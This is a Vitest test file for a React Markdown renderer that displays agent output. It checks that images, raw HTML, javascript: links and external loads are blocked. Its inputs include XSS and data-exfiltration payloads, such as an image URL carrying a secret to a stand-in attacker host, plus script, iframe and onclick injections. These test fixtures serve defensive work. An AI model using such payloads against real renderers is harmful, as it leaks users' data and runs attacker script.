import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { LocalFilesProvider } from '../provider/local-files';
import { Markdown } from './markdown';

const render = (text: string): string => renderToStaticMarkup(<Markdown text={text} />);

describe('Markdown from agents', () => {
  it.each([
    '![x](https://evil.example/p.png?d=secret)',
    '![x](//evil.example/p.png)',
    '![x](data:image/svg+xml,<svg/>)',
    '<img src="https://evil.example/p.png">',
    '![x][r]\n\n[r]: https://evil.example/p.png',
  ])('never makes the browser load a picture: %s', (text) => {
    expect(render(text)).not.toMatch(/<img|srcset|background/i);
  });

  it.each([
    '<script>alert(1)</script>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>@import "https://evil.example"</style>',
    '<div onclick="alert(1)" style="background:url(https://evil.example)">x</div>',
  ])('drops raw HTML: %s', (text) => {
    expect(render(text)).not.toMatch(/<script|<iframe|<style|javascript:|onclick|url\(/i);
  });

  it('makes no link of dangerous or relative addresses', () => {
    expect(render('[x](javascript:alert(1)) [y](report.md)')).not.toContain('<a');
  });

  it('opens outer links apart, without telling where the reader comes from', () => {
    expect(render('[x](https://example.com)')).toContain('rel="noreferrer noopener nofollow"');
  });

  it('shows pictures that the page itself holds', () => {
    const files = {
      image: (path: string) => (path === 'chart.svg' ? <b>chart</b> : undefined),
      open: (path: string) => (path === 'chart.svg' ? () => undefined : undefined),
    };
    const html = renderToStaticMarkup(
      <LocalFilesProvider value={files}>
        <Markdown text="![c](chart.svg) ![d](https://evil.example/chart.svg) [c](chart.svg)" />
      </LocalFilesProvider>,
    );
    expect(html).toContain('<b>chart</b>');
    expect(html).not.toContain('<img');
    expect(html).toContain('<button');
  });
});
